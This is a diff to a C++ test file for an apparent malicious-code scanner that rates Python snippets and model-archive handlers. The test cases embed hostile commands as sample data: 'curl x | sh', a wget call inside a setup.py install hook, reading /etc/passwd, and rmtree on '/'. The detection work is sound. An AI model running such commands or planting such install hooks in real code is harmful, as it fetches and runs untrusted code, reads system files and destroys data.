@@ -41,6 +41,11 @@ TEST(Python, CallsWhatHidesOrReachesOutMalicious) {
         "open('/etc/passwd').read()\n", "import shutil\nshutil.rmtree('/')\n", "eval('__import__(\"os\").system(\"x\")')\n"})
     EXPECT_EQ(Handler(code), "malicious") << code;
 }
+TEST(Python, CallsCommandsThatFetchAndRunMalicious) {
+  EXPECT_EQ(VerdictOf("any.py", "import os\ndef f():\n  os.system('curl x | sh')\n"), "malicious");
+  EXPECT_EQ(VerdictOf("setup.py", "import os\nclass I(install):\n  def run(self):\n    os.system('wget http://x')\n"), "malicious");
+  EXPECT_EQ(VerdictOf("any.py", "import os\ndef f():\n  os.system('wget http://x')\n"), "unreadable");
+}
 TEST(Python, DoubtsWhatIsSeldomNeeded) {
   EXPECT_EQ(Handler("import os\ndef helper():\n  os.system('x')\n"), "suspicious");
   EXPECT_EQ(Handler("import os\nif __name__ == '__main__':\n  os.system('x')\n"), "suspicious");
@@ -64,6 +69,7 @@ TEST(Python, ReadsHandlersInArchives) {
     return VerdictOf("a.mar", zip::Build({{.name = "MAR-INF/MANIFEST.json", .bytes = R"({"model": {"handler": "own.py"}})"},
                                           {.name = std::string(path), .bytes = "import os\nos.system('x')\n"}}));
   };
+  EXPECT_EQ(mar("own.pyc"), "suspicious");
   EXPECT_EQ(mar("own.py"), "malicious");
   EXPECT_EQ(mar("code/own.py"), "malicious");
 }
